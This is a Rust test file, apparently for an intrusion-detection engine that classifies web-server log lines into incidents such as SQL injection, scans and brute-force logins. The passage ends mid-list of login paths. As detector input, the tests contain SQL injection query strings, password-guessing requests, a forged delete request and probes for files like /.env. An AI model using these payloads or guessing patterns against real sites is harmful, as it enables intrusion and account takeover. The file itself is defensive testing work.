//! What sources do, line by line, and what is told of it.

use super::*;
use event::classify::Classifier;
use event::incident::Phase;
use event::{Format, Parsed};
use proptest::prelude::*;
use std::sync::LazyLock;

static CLASSIFIER: LazyLock<Classifier> = LazyLock::new(Classifier::embedded);

const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0";
const NOON: Millis = 1_794_830_400_000;

/// A request of the log, without its time.
#[derive(Debug, Clone)]
struct Line {
    client: String,
    method: &'static str,
    target: String,
    status: u16,
    bytes: u64,
    referer: &'static str,
    agent: &'static str,
}

fn get(client: &str, target: impl Into<String>) -> Line {
    let (client, target) = (client.to_owned(), target.into());
    Line { client, method: "GET", target, status: 200, bytes: 5_000, referer: "-", agent: FIREFOX }
}

fn post(client: &str, target: impl Into<String>) -> Line {
    Line { method: "POST", status: 302, bytes: 412, ..get(client, target) }
}

/// The place of a line; no two lines have the same.
fn place(line: u64) -> Place<'static> {
    Place { life: LifeId([7; 16]), offset: line, length: 1, written: b"" }
}

/// An engine, and all that it told.
struct Host {
    engine: Engine,
    lines: u64,
    told: Vec<Told>,
}

impl Host {
    fn new() -> Host {
        Host { engine: Engine::new("h", Limits::default()), lines: 0, told: Vec::new() }
    }

    fn place(&mut self) -> Place<'static> {
        self.lines += 1;
        place(self.lines)
    }

    /// Sees a request, `seconds` after noon.
    fn sees(&mut self, seconds: i64, line: &Line) -> &Told {
        self.sees_as("-", seconds, line)
    }

    /// The same, of somebody who told his name as HTTP has it.
    fn sees_as(&mut self, user: &str, seconds: i64, line: &Line) -> &Told {
        let Line { client, method, target, status, bytes, referer, agent } = line;
        let text = format!(
            r#"{client} - {user} [16/Nov/2026:12:00:00 +0000] "{method} {target} HTTP/1.1" {status} {bytes} "{referer}" "{agent}""#
        );
        let parsed = Format::Combined.parse(text.as_bytes());
        let access = parsed.access().expect("the test writes whole lines");
        let attack = CLASSIFIER.classify(access);
        let client = parsed.client_ip().expect("the test writes addresses");
        let line = super::Line::Access { client, access, attack: attack.as_ref() };
        let seen = Seen { place: self.place(), at: NOON + seconds * 1_000, line };
        self.told.push(self.engine.observe(&seen));
        self.told.last().expect("it was pushed")
    }

    fn sees_all(&mut self, from: i64, every: i64, lines: impl IntoIterator<Item = Line>) {
        lines.into_iter().enumerate().for_each(|(at, line)| _ = self.sees(from + at as i64 * every, &line));
    }

    /// Sees a line of the error log; one with a client has Apache's head.
    fn reads(&mut self, seconds: i64, client: Option<&str>, message: &str) -> &Told {
        let head = |client: &str| {
            format!("[Mon Nov 16 12:00:00.000000 2026] [php:error] [pid 7:tid 7] [client {client}:26325] ")
        };
        let text = format!("{}{message}", client.map(head).unwrap_or_default());
        let Parsed::Error(error) = Format::Error.parse(text.as_bytes()) else { panic!("{text}") };
        let client = client.map(|client| client.parse().expect("the test writes addresses"));
        let line = super::Line::Error { client, error: &error };
        let seen = Seen { place: self.place(), at: NOON + seconds * 1_000, line };
        self.told.push(self.engine.observe(&seen));
        self.told.last().expect("it was pushed")
    }

    fn incidents(&self) -> Vec<&Incident> {
        self.engine.incidents().collect()
    }

    fn the_incident(&self) -> &Incident {
        let all = self.incidents();
        assert_eq!(all.len(), 1, "{all:#?}");
        all[0]
    }

    fn revisions(&self) -> Vec<&Incident> {
        self.told.iter().flat_map(|told| &told.incidents).collect()
    }
}

const ACTOR: &str = "192.0.2.7";

#[test]
fn a_run_of_eight_thousand_requests_is_one_incident_told_in_a_few_revisions() {
    let mut host = Host::new();
    let attack = |n: i64| get(ACTOR, format!("/item?id={n}%27+union+select+1,2,{n}--+-"));
    for n in 0..8_000 {
        assert!(host.sees(n / 50, &attack(n)).incident.is_some());
    }
    let incident = host.the_incident();
    assert_eq!((incident.findings, incident.requests), (8_000, 8_000));
    assert_eq!(incident.targets, [("/item".to_owned(), 8_000)]);
    let revisions = host.revisions();
    assert!(revisions.len() < 20, "{}", revisions.len());
    assert!(revisions.iter().zip(1..).all(|(incident, revision)| incident.revision == revision));
    assert!(revisions.iter().all(|revision| revision.id == incident.id));
}

#[test]
fn an_incident_names_paths_and_tools_as_documents_do() {
    let mut host = Host::new();
    let target = r#"/caf\xc3\xa9\"?id=1%27+union+select+1,2--+-"#;
    host.sees(0, &Line { agent: r#"\"Mozilla/5.0"#, ..get(ACTOR, target) });
    let incident = host.the_incident();
    assert_eq!(incident.targets, [("/café\"".to_owned(), 1)]);
    assert_eq!(incident.user_agents, ["\"Mozilla/5.0"]);
    let mut host = Host::new();
    host.sees(0, &get(ACTOR, format!(r"/{}\xf0\x9f\x98\x80?id=1%27+union+select+1,2--+-", "a".repeat(252))));
    assert_eq!(host.the_incident().targets, [(format!("/{}", "a".repeat(252)), 1)]);
}

#[test]
fn an_incident_ends_after_half_an_hour_of_quiet_and_the_next_one_is_another() {
    let mut host = Host::new();
    let attack = get(ACTOR, "/item?id=1%27+union+select+1,2--+-");
    host.sees(0, &attack);
    assert_eq!(host.engine.pass(NOON + 1_799_000), []);
    let ended = host.engine.pass(NOON + 1_800_000);
    assert!(ended.len() == 1 && ended[0].is_over && ended[0].revision == 2);
    host.sees(2_000, &attack);
    host.sees(9_000, &attack);
    let revisions = host.revisions();
    let shown: Vec<(u32, bool)> = revisions.iter().map(|incident| (incident.revision, incident.is_over)).collect();
    assert_eq!(shown, [(1, false), (1, false), (2, true), (1, false)]);
    assert_eq!(host.incidents().len(), 3);
}

#[test]
fn what_another_file_tells_of_days_before_is_another_incident() {
    let (day, attack) = (86_400, get(ACTOR, "/item?id=1%27+union+select+1,2--+-"));
    let mut host = Host::new();
    for seconds in [3 * day, 0, day, 2 * day, 2 * day - 900, 3 * day + 60, 3 * day - 900, 2 * day + 60] {
        host.sees(seconds, &attack);
    }
    let mut seen: Vec<_> =
        host.incidents().iter().map(|one| (one.first_seen - NOON, one.last_seen - NOON, one.findings)).collect();
    seen.sort();
    let whole = |from: i64, to: i64, findings| (from * 1_000, to * 1_000, findings);
    let two = |days: i64| whole(days * day - 900, days * day + 60, 3);
    assert_eq!(seen, [whole(0, 0, 1), whole(day, day, 1), two(2), two(3)]);
    assert_eq!(host.engine.pass(NOON + 2 * day * 1_000 + 1_860_000).iter().filter(|one| one.is_over).count(), 3);
    // Two files that are read in turns are an incident each, however often the turns change.
    let mut host = Host::new();
    host.sees_all(0, 0, (0..20).map(|_| attack.clone()));
    (0..100).for_each(|n| _ = host.sees(if n % 2 == 0 { day + n } else { n }, &attack));
    assert!(host.incidents().len() <= 3, "{:#?}", host.incidents());
}

#[test]
fn looking_around_a_little_is_no_incident_and_more_of_it_is() {
    let mut host = Host::new();
    let tool = Line { agent: "zgrab/0.x", ..get(ACTOR, "/") };
    assert!(host.sees(0, &tool).incident.is_some() && host.sees(1, &tool).incidents.is_empty());
    assert_eq!(host.incidents().len(), 0);
    host.sees(2, &tool);
    let incident = host.the_incident();
    assert_eq!(incident.phases, [(Phase::Recon, NOON)]);
    assert_eq!((incident.severity, incident.findings), (event::attack::Severity::Low, 3));
}

#[test]
fn paths_that_are_not_there_are_a_scan_when_they_are_many() {
    let missing = |n: i64| Line { status: 404, ..get(ACTOR, format!("/x{n}")) };
    let mut host = Host::new();
    host.sees_all(0, 1, (0..10).map(missing));
    assert_eq!(host.incidents().len(), 0);
    host.sees_all(10, 1, (10..60).map(missing));
    let incident = host.the_incident();
    assert_eq!(incident.categories[&Category::Recon], 60);
    assert_eq!(incident.first_seen, NOON);
    assert!(incident.behaviour[0].ends_with("though the user agent is a browser's"), "{:?}", incident.behaviour);
    assert_eq!(incident.outcome, Outcome::Failed);
}

#[test]
fn a_scan_that_takes_its_time_is_a_scan() {
    let missing = |n: i64| Line { status: 404, ..get(ACTOR, format!("/x{n}")) };
    let mut host = Host::new();
    host.sees_all(0, 60, (0..28).map(missing));
    assert_eq!(host.incidents().len(), 0);
    host.sees_all(28 * 60, 60, (28..55).map(missing));
    let incident = host.the_incident();
    assert_eq!((incident.categories[&Category::Recon], incident.first_seen), (55, NOON));
    assert!(incident.behaviour[0].contains(", slowly"), "{:?}", incident.behaviour);
    // Lines of both kinds are counted once, and it is one scan for as long as it goes on.
    let mut host = Host::new();
    host.sees_all(0, 1, (0..600).map(missing));
    assert_eq!(host.the_incident().categories[&Category::Recon], 600);
    host.sees_all(1_200, 60, (600..900).map(missing));
    let incident = host.the_incident();
    assert_eq!((incident.categories[&Category::Recon], incident.findings), (900, 900));
    let mut host = Host::new();
    host.sees_all(0, 60, (0..300).map(missing));
    host.sees_all(300 * 60, 1, (300..400).map(missing));
    assert_eq!(host.the_incident().categories[&Category::Recon], 400);
}

#[test]
fn a_scan_of_what_needs_a_login_is_a_scan() {
    let asked = |n: i64| Line { status: 401, ..get(ACTOR, format!("/private/{n}")) };
    let mut host = Host::new();
    host.sees_all(0, 1, (0..60).map(asked));
    let incident = host.the_incident();
    assert_eq!((incident.categories[&Category::Recon], incident.outcome), (60, Outcome::Blocked));
    // A browser that is asked for a password, and a page's scripts whose login has ended.
    let mut host = Host::new();
    host.sees_all(0, 1, (0..3).map(asked));
    host.sees_all(3, 1, (0..200).map(|n| get(ACTOR, format!("/private/{n}"))));
    host.sees_all(0, 1, (0..60).map(|n| Line { client: "198.51.100.1".into(), referer: "http://h.lab/", ..asked(n) }));
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
}

#[test]
fn a_browser_that_shows_who_it_is_when_asked_for_each_page_is_no_scan() {
    let mut host = Host::new();
    for n in 0..60 {
        host.sees(n, &Line { status: 401, ..get(ACTOR, format!("/private/{n}")) });
        host.sees_as("bob", n, &get(ACTOR, format!("/private/{n}")));
    }
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
}

#[test]
fn a_scan_between_requests_for_one_page_is_a_scan() {
    let missing = |n: i64| Line { status: 404, ..get(ACTOR, format!("/x{n}")) };
    let home = || get(ACTOR, "/");
    let mut host = Host::new();
    host.sees_all(0, 0, (0..9).map(|_| home()));
    (0..300).for_each(|n| [missing(n), home(), home()].iter().for_each(|line| _ = host.sees(n, line)));
    assert_eq!(host.incidents().len(), 1);
    // A program that asks whether things are there and makes those that are not.
    let mut host = Host::new();
    for n in 0..100 {
        let made = Line { method: "PUT", status: 201, ..get(ACTOR, format!("/x{n}")) };
        [missing(n), made.clone(), made].iter().for_each(|line| _ = host.sees(n, line));
    }
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
}

#[test]
fn one_request_that_is_forged_does_not_make_its_network_the_actor() {
    let mut host = Host::new();
    let forged = Line { status: 404, referer: "https://evil.example/x", ..get(ACTOR, "/page/0") };
    (0..20).for_each(|n| _ = host.sees(n, &Line { referer: "https://h.lab/", ..get("192.0.2.9", "/page/0") }));
    host.sees(30, &Line { target: "/delete?id=1".into(), ..forged });
    assert!(host.incidents().iter().all(|incident| !incident.actor.contains('/')), "{:#?}", host.incidents());
}

#[test]
fn what_the_error_log_tells_of_a_networks_address_is_its_networks() {
    let mut host = Host::new();
    let missing = |n: i64| Line { status: 404, ..get(&format!("192.0.2.{}", n % 5), format!("/x{n}")) };
    host.sees_all(0, 1, (0..60).map(missing));
    host.sees(60, &get("192.0.2.1", "/x1?id=1%27+union+select+1,2--+-"));
    host.reads(60, Some("192.0.2.1"), "PHP Fatal error:  Uncaught mysqli_sql_exception: XPATH syntax error: '~x'");
    let incident = host.the_incident();
    assert_eq!((incident.actor.as_str(), incident.outcome), ("192.0.2.0/24", Outcome::LikelySucceeded));
}

#[test]
fn a_refusal_in_the_error_log_says_nothing_of_a_request_that_was_answered() {
    let mut host = Host::new();
    host.reads(0, Some(ACTOR), "AH01630: client denied by server configuration: /var/www/html/.htaccess");
    host.sees(0, &Line { status: 403, ..get(ACTOR, "/.htaccess") });
    let told = host.sees(1, &get(ACTOR, "/phpinfo.php")).clone();
    assert_ne!(told.outcome.map(|(outcome, _)| outcome), Some(Outcome::Blocked));
}

#[test]
fn a_scan_by_addresses_of_one_network_that_take_turns_is_one_of_that_network() {
    let missing = |n: i64| Line { status: 404, ..get(&format!("192.0.2.{}", n % 5), format!("/x{n}")) };
    let mut host = Host::new();
    host.sees_all(0, 1, (0..60).map(missing));
    let incident = host.the_incident();
    assert_eq!((incident.actor.as_str(), incident.categories[&Category::Recon]), ("192.0.2.0/24", 60));
    assert!(incident.behaviour[0].ends_with("from several addresses of one network"), "{:?}", incident.behaviour);
    // An office whose people find most of what they ask for, and one link that is dead.
    let people = |n: i64| {
        let target = if n % 3 == 0 { "/dead".to_owned() } else { format!("/page/{n}") };
        Line { status: if n % 3 == 0 { 404 } else { 200 }, ..get(&format!("192.0.2.{}", n % 20), target) }
    };
    let mut host = Host::new();
    host.sees_all(0, 1, (0..300).map(people));
    assert_eq!(host.incidents().len(), 0);
}

#[test]
fn a_scan_of_a_site_that_answers_everything_alike_is_a_scan() {
    for status in [200, 301, 302, 503] {
        let asked = |client: &str, n: i64| Line { status, bytes: 1_532, ..get(client, format!("/w{n}")) };
        let mut host = Host::new();
        (0..300).for_each(|n| _ = host.sees(n / 10, &asked(ACTOR, n)));
        let incident = host.the_incident();
        assert!(incident.categories[&Category::Recon] > 280, "{incident:#?}");
        assert!(incident.behaviour[0].starts_with("asks for many paths that are answered alike, "), "{incident:#?}");
        assert_eq!(
            (incident.outcome, incident.outcome_reason.as_str()),
            (Outcome::Failed, "other paths are answered with the same")
        );
        // Visitors who load pages, programs that follow redirects, what pages ask for, and robots.
        let mut host = Host::new();
        (0..300).for_each(|n| _ = host.sees(n / 3, &asked(&format!("198.51.100.{}", n % 30), n)));
        (0..300).for_each(|n| _ = host.sees(n / 10, &Line { agent: "Debian APT-HTTP/1.3", ..asked("203.0.113.1", n) }));
        (0..300).for_each(|n| _ = host.sees(n / 10, &Line { referer: "http://h.lab/", ..asked("203.0.113.2", n) }));
        host.sees(0, &get("203.0.113.3", "/app.css"));
        (0..300).for_each(|n| _ = host.sees(n / 10, &asked("203.0.113.3", n)));
        let robot = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";
        (0..300).for_each(|n| _ = host.sees(n / 10, &Line { agent: robot, ..asked("203.0.113.4", n) }));
        (0..300).for_each(|n| _ = host.sees(n, &asked("203.0.113.5", n)));
        assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
    }
    // Pages that differ are read, however fast.
    let mut host = Host::new();
    (0..300)
        .for_each(|n| _ = host.sees(n / 10, &Line { bytes: 5_000 + 97 * n as u64, ..get(ACTOR, format!("/w{n}")) }));
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
}

#[test]
fn a_tool_is_told_by_its_pace_whatever_its_user_agent_says() {
    let attack = |n: i64| get(ACTOR, format!("/item?id={n}%27+union+select+1,2--+-"));
    let mut host = Host::new();
    host.sees_all(0, 3, (0..200).map(attack));
    assert!(host.the_incident().behaviour.is_empty(), "a person at work");
    let mut host = Host::new();
    (0..200).for_each(|n| _ = host.sees(n / 5, &attack(n)));
    let incident = host.the_incident();
    assert_eq!(
        incident.behaviour,
        ["is a tool: sends 40 attacks within seconds, though the user agent is a browser's"]
    );
    assert_eq!(incident.categories, [(Category::Sqli, 200)].into(), "what it is made of is counted once");
    assert!(host.told.iter().all(|told| told.categories.is_empty()));
}

#[test]
fn what_an_older_agent_knew_is_known() {
    let mut host = Host::new();
    host.sees(0, &get(ACTOR, "/item?id=1%27+union+select+1,2--+-"));
    let mut state = serde_json::to_value(&host.engine).unwrap();
    state.as_object_mut().unwrap().remove("scans").expect("it came later");
    let mut engine: Engine = serde_json::from_value(state).unwrap();
    engine.limit(Limits::default());
    assert!(engine.incidents().eq(host.engine.incidents()));
}

#[test]
fn a_crawler_with_old_links_a_page_with_missing_images_and_a_monitor_are_no_scans() {
    let mut host = Host::new();
    let robot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    host.sees_all(
        0,
        2,
        (0..60).map(|n| Line { status: 404, agent: robot, ..get("198.51.100.1", format!("/old/{n}")) }),
    );
    let image = |n| Line { status: 404, referer: "https://h.lab/page", ..get("198.51.100.2", format!("/img/{n}.png")) };
    host.sees_all(0, 0, (0..80).map(image));
    host.sees_all(0, 5, (0..500).map(|_| Line { status: 404, agent: "curl/8", ..get("198.51.100.3", "/health") }));
    let lost = |n| Line { status: if n % 3 == 0 { 404 } else { 200 }, ..get("198.51.100.4", format!("/page/{n}")) };
    host.sees_all(0, 1, (0..300).map(lost));
    assert_eq!(host.incidents().len(), 0);
}

/// Incidents of one who asks for a hundred things, a second each: of each first as `asks`, then as `sends`.
fn scans_of(user: &str, asks: impl Fn(usize) -> Line, sends: impl Fn(usize) -> Option<Line>) -> usize {
    let mut host = Host::new();
    for n in 0..90 {
        host.sees_as(user, n as i64, &asks(n));
        sends(n).iter().for_each(|line| _ = host.sees_as(user, n as i64, line));
    }
    host.incidents().len()
}

#[test]
fn who_asks_whether_something_is_there_before_he_sends_it_is_no_scan() {
    let file = |method, status, agent, n: usize| Line { method, status, agent, ..get(ACTOR, format!("/dav/i{n}.jpg")) };
    for (agent, method) in [
        ("rclone/v1.68", "HEAD"),
        ("Microsoft-WebDAV-MiniRedir/10.0.19045", "PROPFIND"),
        ("WebDAVFS/3.0.0 (03008000) Darwin/23.6.0 (arm64)", "PROPFIND"),
    ] {
        assert_eq!(scans_of("bk", |n| file(method, 404, agent, n), |n| Some(file("PUT", 201, agent, n))), 0, "{agent}");
        // Who is not let in, or tells no name, looks around.
        assert_eq!(scans_of("-", |n| file(method, 404, agent, n), |_| None), 1, "{agent}");
        assert_eq!(scans_of("-", |n| file(method, 401, agent, n), |_| None), 1, "{agent}");
    }
    // Who asks for others' copies first, of programs that ask one registry after the other.
    for agent in [
        r#"pip/24.0 {\"ci\":true}"#,
        "Apache-Maven/3.9.9 (Java 21.0.2; Linux 6.8)",
        "npm/10.8.2 node/v22.9.0 linux x64",
        "Composer/2.8.1 (Linux; 6.8; PHP 8.3.6)",
        "git/2.43.0",
        "Microsoft-Symbol-Server/10.0.10586.567",
        "Mozilla/5.0 (Linux; Android 6.0.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131 (compatible; GoogleOther)",
    ] {
        assert_eq!(scans_of("-", |n| file("GET", 404, agent, n), |_| None), 0, "{agent}");
    }
    assert_eq!(scans_of("-", |n| file("GET", 404, "curl/8", n), |_| None), 1);
    // Pictures that are there are found as pages are.
    let picture = |n| Some(Line { agent: "curl/8", ..get(ACTOR, format!("/dav/p{n}.jpg")) });
    let missed = |n: usize| Line {
        agent: "curl/8",
        status: if n.is_multiple_of(3) { 404 } else { 200 },
        ..get(ACTOR, format!("/dav/q{n}.jpg"))
    };
    assert_eq!(scans_of("-", missed, picture), 0);
}

fn guess(user: usize, password: usize) -> Line {
    let target = format!("/brute/?username=user{user}&password=REDACTED-{password:012x}&Login=Login");
    Line { bytes: 5_026, referer: "http://h.lab/brute/", ..get(ACTOR, target) }
}

#[test]
fn passwords_tried_in_queries_are_a_brute_force_and_the_odd_answer_is_its_success() {
    let mut host = Host::new();
    host.sees_all(0, 1, (0..12).map(|n| guess(0, n)));
    let incident = host.the_incident();
    assert_eq!(incident.outcome, Outcome::Unknown);
    assert_eq!(incident.categories[&Category::Bruteforce], 12);
    let right = Line { bytes: 5_151, ..guess(0, 99) };
    let reason = "after 12 answers of 5026 bytes and status 200, one had 5151 bytes and status 200";
    assert_eq!(host.sees(12, &right).outcome, Some((Outcome::LikelySucceeded, reason.to_owned())));
    let incident = host.the_incident();
    assert_eq!((incident.outcome, incident.outcome_reason.as_str()), (Outcome::LikelySucceeded, reason));
    assert_eq!(incident.phases.last(), Some(&(Phase::Success, NOON + 12_000)));
    assert!(incident.score >= 80);
}

#[test]
fn a_lockout_or_a_captcha_is_no_password_found() {
    for (usual, wall, row) in
        [((200, 4_000), (200, 2_300), 2), ((200, 5_200), (302, 0), 5), ((302, 200), (302, 260), 2)]
    {
        let mut host = Host::new();
        let answer = |(status, bytes): (u16, u64)| Line { status, bytes, ..post(ACTOR, "/login.php") };
        host.sees_all(-30, 1, (0..40).map(|_| answer(usual)));
        for n in 1..row {
            host.sees(10 + n, &answer(wall));
            assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded);
        }
        host.sees(20, &answer(wall));
        let incident = host.the_incident();
        assert_eq!((incident.outcome, incident.outcome_reason.as_str()), (Outcome::Unknown, CAME_AGAIN));
        assert!(incident.phases.iter().all(|(phase, _)| *phase != Phase::Success), "{incident:#?}");
        // When it is lifted, and comes again.
        host.sees_all(21, 1, (0..100).map(|n| answer(if n % 50 == 40 { wall } else { usual })));
        assert_eq!(host.the_incident().outcome, Outcome::Unknown);
        // Another answer is another matter.
        host.sees(122, &Line { status: 302, bytes: 777, ..post(ACTOR, "/login.php") });
        assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded);
    }
}

#[test]
fn a_password_that_was_found_and_is_used_stays_found() {
    let answer = |status, bytes| Line { status, bytes, ..post(ACTOR, "/wp-login.php") };
    let mut host = Host::new();
    host.sees_all(0, 2, (0..80).map(|_| answer(200, 6_521)));
    host.sees(160, &answer(302, 0));
    // He logs in himself, looks around, and logs in again.
    host.sees(200, &answer(302, 0));
    host.sees(201, &Line { bytes: 61_000, ..get(ACTOR, "/wp-admin/") });
    host.sees(220, &answer(302, 0));
    assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded);
    // A program that goes on with what it found.
    let call = |status, bytes| Line { status, bytes, agent: "python-requests/2.31", ..post(ACTOR, "/api/auth/login") };
    let mut host = Host::new();
    host.sees_all(0, 1, (0..60).map(|_| call(401, 45)));
    host.sees_all(60, 1, (0..2).map(|_| call(200, 900)));
    host.sees_all(62, 1, (0..20).map(|n| get(ACTOR, format!("/api/users?page={n}"))));
    assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded);
}

#[test]
fn an_answer_that_comes_again_after_other_pages_were_read_is_no_lockout() {
    let answer = |bytes| Line { status: 200, bytes, ..post(ACTOR, "/login.php") };
    let told = |target: &str| {
        let mut host = Host::new();
        host.sees_all(0, 1, (0..11).map(|n| answer(if n < 10 { 4_000 } else { 900 })));
        host.sees(11, &get(ACTOR, target));
        host.sees(12, &answer(900));
        host.the_incident().outcome
    };
    assert_eq!(told("/inbox"), Outcome::LikelySucceeded);
    assert_eq!(told("/login.php"), Outcome::Unknown);
}

#[test]
fn a_login_that_says_something_else_is_no_password_found() {
    let answer = |client: &str, status, bytes| Line { status, bytes, ..post(client, "/wp-login.php") };
    for told in [6_903, 6_611, 6_100] {
        let mut host = Host::new();
        host.sees_all(0, 3, (0..40).map(|n| answer(ACTOR, 200, if n == 25 { told } else { 6_521 })));
        assert_eq!(host.the_incident().outcome, Outcome::Unknown, "{told}");
        host.sees(120, &answer(ACTOR, 302, 0));
        assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded, "{told}");
    }
    // Names that are known and names that are not, one after the other.
    let mut host = Host::new();
    host.sees_all(0, 3, (0..40).map(|n| answer(ACTOR, 200, 6_521 + n % 2 * 90)));
    assert_eq!(host.the_incident().outcome, Outcome::Unknown);
    host.sees(120, &answer(ACTOR, 302, 0));
    assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded);
    // Addresses of one network, each locked out once.
    let mut host = Host::new();
    let of_network = |n: u64| answer(&format!("192.0.2.{}", n / 7), 200, if n % 7 == 6 { 6_903 } else { 6_521 });
    host.sees_all(0, 3, (0..70).map(of_network));
    assert!(host.incidents().iter().all(|incident| incident.outcome == Outcome::Unknown), "{:#?}", host.incidents());
    assert!(!host.incidents().is_empty());
}

#[test]
fn who_is_let_in_under_a_name_that_was_refused_before_has_found_its_password() {
    let ask = |status, agent| Line { status, agent, ..get(ACTOR, "/private/") };
    for agent in ["curl/8.5", "Mozilla/5.0 (Hydra)", FIREFOX] {
        let mut host = Host::new();
        (0..300).for_each(|n| _ = host.sees_as("admin", n / 2, &ask(401, agent)));
        assert_ne!(host.the_incident().outcome, Outcome::LikelySucceeded);
        // Somebody else at the same address who has a login.
        host.sees_as("bob", 151, &ask(200, agent));
        assert_ne!(host.the_incident().outcome, Outcome::LikelySucceeded);
        host.sees_as("admin", 152, &ask(200, agent));
        let reason = "after 300 refusals, `admin` was let in";
        let incident = host.the_incident();
        assert_eq!((incident.outcome, incident.outcome_reason.as_str()), (Outcome::LikelySucceeded, reason));
        (0..20).for_each(|n| _ = host.sees_as("admin", 160 + n, &get(ACTOR, format!("/private/{n}"))));
        let incident = host.the_incident();
        assert_eq!((incident.outcome, incident.outcome_reason.as_str()), (Outcome::LikelySucceeded, reason));
        assert_eq!(incident.categories[&Category::Bruteforce], 301);
    }
    // Who mistypes is let in, too.
    let mut host = Host::new();
    (0..5).for_each(|n| _ = host.sees_as("admin", n * 4, &ask(401, FIREFOX)));
    host.sees_as("admin", 22, &ask(200, FIREFOX));
    assert_eq!(host.incidents().len(), 0);
}

#[test]
fn guesses_that_take_their_time_are_a_brute_force() {
    let form = |status, bytes| Line { status, bytes, ..post(ACTOR, "/wp-login.php") };
    for every in [25, 30, 90] {
        let mut host = Host::new();
        host.sees_all(0, every, (0..100).map(|_| form(200, 6_521)));
        assert_eq!(host.the_incident().categories[&Category::Bruteforce], 100);
        host.sees(100 * every, &form(302, 0));
        assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded);
    }
    // A monitor that logs in, one that does so with a page each time, an address that only says that
    // somebody is in, and a program whose password is an old one.
    let quiet = |line: Line| {
        let mut host = Host::new();
        host.sees_all(0, 30, (0..700).map(|_| line.clone()));
        host.incidents().len()
    };
    assert_eq!(quiet(form(302, 0)), 0);
    assert_eq!(quiet(form(200, 120)), 0);
    assert_eq!(quiet(Line { status: 401, agent: "python-requests/2.31", ..post(ACTOR, "/api/login") }), 0);
    let mut host = Host::new();
    for n in 0..200 {
        host.sees(n * 30, &form(200, 6_521));
        host.sees(n * 30 + 1, &get(ACTOR, "/"));
    }
    assert_eq!(host.incidents().len(), 0);
}

#[test]
fn a_success_that_rests_on_more_than_an_odd_answer_stays() {
    let mut host = Host::new();
    let answer = |bytes| Line { status: 200, bytes, ..post(ACTOR, "/login.php") };
    host.sees(0, &Line { bytes: 215, ..get(ACTOR, "/.env") });
    host.sees_all(0, 1, (0..11).map(|n| answer(if n < 10 { 4_000 } else { 2_300 })));
    host.sees(12, &answer(2_300));
    let incident = host.the_incident();
    let reason = "what was asked for is there (status 200)";
    assert_eq!((incident.outcome, incident.outcome_reason.as_str()), (Outcome::LikelySucceeded, reason));
}

#[test]
fn one_password_for_many_names_is_told_as_such() {
    let mut host = Host::new();
    host.sees_all(0, 1, (0..30).map(|n| guess(n, n % 6)));
    let told = &host.the_incident().behaviour[0];
    assert!(told.starts_with("tries 6 passwords for about "), "{told}");
}

#[test]
fn few_passwords_sprayed_over_many_names_are_found() {
    for passwords in [1, 4] {
        let mut host = Host::new();
        host.sees_all(0, 1, (0..500).map(|n| guess(n / passwords, n % passwords)));
        let told = &host.the_incident().behaviour[0];
        let few = if passwords == 1 { "one password" } else { "4 passwords" };
        assert!(told.starts_with(&format!("tries {few} for about ")), "{told}");
    }
    // An office whose people log in by name and password, and who steals passwords with their names.
    let mut host = Host::new();
    for n in 0..40 {
        host.sees(n * 5, &guess(n as usize, n as usize));
        let page = |target: &str| Line { referer: "http://h.lab/brute/", ..get(ACTOR, target) };
        ["/", "/style.css", "/app.js", "/news"].into_iter().for_each(|target| _ = host.sees(n * 5 + 1, &page(target)));
    }
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
    host.sees_all(2_000, 5, (0..40).map(|n| guess(n, n)));
    assert_eq!(host.incidents().len(), 1);
}

#[test]
fn logins_one_after_the_other_are_a_brute_force() {
    let mut host = Host::new();
    host.sees_all(0, 4, (0..20).map(|_| post(ACTOR, "/login.php")));
    assert_eq!(host.the_incident().behaviour, ["tries to log in 16 times in a row"]);
}

#[test]
fn who_mistypes_a_password_and_an_office_that_logs_in_are_left_alone() {
    let mut host = Host::new();
    host.sees_all(0, 15, (0..4).map(|n| Line { client: "198.51.100.1".into(), ..guess(0, n) }));
    let form = |client| Line { referer: "http://h.lab/login", ..post(client, "/login") };
    host.sees_all(0, 10, (0..4).map(|_| form("198.51.100.2")));
    for n in 0..40 {
        host.sees(n * 5, &form("198.51.100.3"));
        let page = |target: &str| Line { referer: "http://h.lab/login", ..get("198.51.100.3", target) };
        ["/", "/style.css", "/app.js", "/news"].into_iter().for_each(|target| _ = host.sees(n * 5 + 1, &page(target)));
    }
    assert_eq!(host.incidents().len(), 0);
}

/// How many incidents of guessing posts are that come one a second, from nobody who loads pages.
fn guesses_of(posts: impl Iterator<Item = Line>) -> usize {
    let mut host = Host::new();
    host.sees_all(0, 1, posts);
    host.incidents().iter().filter(|incident| incident.categories.contains_key(&Category::Bruteforce)).count()
}

#[test]
fn a_login_is_found_whatever_products_call_it() {
    for target in [
        "/customer/account/loginPost/",
        "/login_check",
        "/doLogin",
        "/admin-login.php",
        "/index.php?route=account/login",
        "/forum/?action=login2",
        "/index.php?option=com_users&task=user.login",
        "/session",
        "/sessions",
        "/oauth/token",
        "/api/auth",
        "/api/v1/auth/login",
        "/administrator/index.php",
        "/phpmyadmin/index.php",
        "/phpmyadmin/index.php?route=/",
        "/wp-login.php",
        "/xmlrpc.php",
        "/owa/auth.owa",
        "/user/login",
        "/signin",
        "/account/sign-in",
        "/LogOn.aspx",
        "/j_security_check",
        "/jenkins/j_spring_security_check",
        "/j_acegi_security_check",
        "/roundcube/?_task=login&_action=login",
        "/api2/json/access/ticket",
        "/my-account/",
        "/admin/",
        "/user",
        "/?q=user",
        "/adminer.php",
        "/zabbix/index.php",
        "/cgi-bin/webscr?cmd=_login-submit",
        "/konto/anmeldung.php",
        "/anmelden",
